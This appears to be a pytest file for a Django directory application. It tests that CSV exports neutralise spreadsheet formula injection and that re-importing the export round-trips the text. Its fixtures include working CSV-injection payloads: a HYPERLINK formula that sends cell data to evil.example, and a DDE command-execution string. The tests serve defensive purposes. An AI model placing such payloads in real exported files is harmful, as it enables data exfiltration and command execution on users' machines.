"""The HSDS export is opened in spreadsheets too: text that a spreadsheet would run as a
formula is written through the one CSV cell helper (config.spreadsheets.csv_cell), and an
import of Linkage's own export reads the text back as it was."""

from __future__ import annotations

import io

import pytest
from django.core.management import call_command

from config.spreadsheets import csv_cell
from directory.models import Program
from tests.directory.conftest import read_csv, unzip
from tests.factories import NetworkFactory, ProgramFactory

pytestmark = pytest.mark.django_db

HOSTILE = {
    "name": '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "description": "+cmd|' /C calc'!A0",
    "eligibility": "-2+3",
    "hours": "@SUM(A1:A9)",
    "fees": "=1+1",
}


def test_export_cells_cannot_become_spreadsheet_formulas(login, tenant):
    ProgramFactory(organization=tenant.cbo, **HOSTILE)
    response = login(tenant.backbone_admin).get("/directory/export/")
    assert response.status_code == 200
    tables = unzip(response.content)
    (service,) = read_csv(tables["services.csv"])
    for column, field in (
        ("name", "name"),
        ("description", "description"),
        ("eligibility_description", "eligibility"),
        ("fees_description", "fees"),
    ):
        assert service[column] == "'" + HOSTILE[field]
        assert service[column] == csv_cell(HOSTILE[field])  # the shared helper's form
    (schedule,) = read_csv(tables["schedules.csv"])
    assert schedule["description"] == "'@SUM(A1:A9)"
    # Figures Linkage writes stay numbers; nothing else in any table starts a formula.
    for name, table in tables.items():
        if not name.endswith(".csv"):
            continue
        for row in read_csv(table):
            for value in row.values():
                assert value[:1] not in ("=", "@") and value == csv_cell(value), value


def test_importing_the_export_gives_the_text_back(login, tenant, tmp_path):
    original = ProgramFactory(organization=tenant.cbo, **HOSTILE)
    path = tmp_path / "directory.zip"
    path.write_bytes(login(tenant.backbone_admin).get("/directory/export/").content)

    empty = NetworkFactory(name="Empty Network")
    call_command("import_hsds", "--network", "Empty Network", str(path), stdout=io.StringIO())
    copy = Program.objects.get(organization__network=empty, hsds_id=original.hsds_id)
    for field, value in HOSTILE.items():
        assert getattr(copy, field) == value, field


def test_an_apostrophe_the_helper_did_not_add_is_kept_on_import(login, tenant, tmp_path):
    original = ProgramFactory(organization=tenant.cbo, name="'Round the corner pantry")
    path = tmp_path / "directory.zip"
    path.write_bytes(login(tenant.backbone_admin).get("/directory/export/").content)
    empty = NetworkFactory(name="Empty Network")
    call_command("import_hsds", "--network", "Empty Network", str(path), stdout=io.StringIO())
    copy = Program.objects.get(organization__network=empty, hsds_id=original.hsds_id)
    assert copy.name == "'Round the corner pantry"
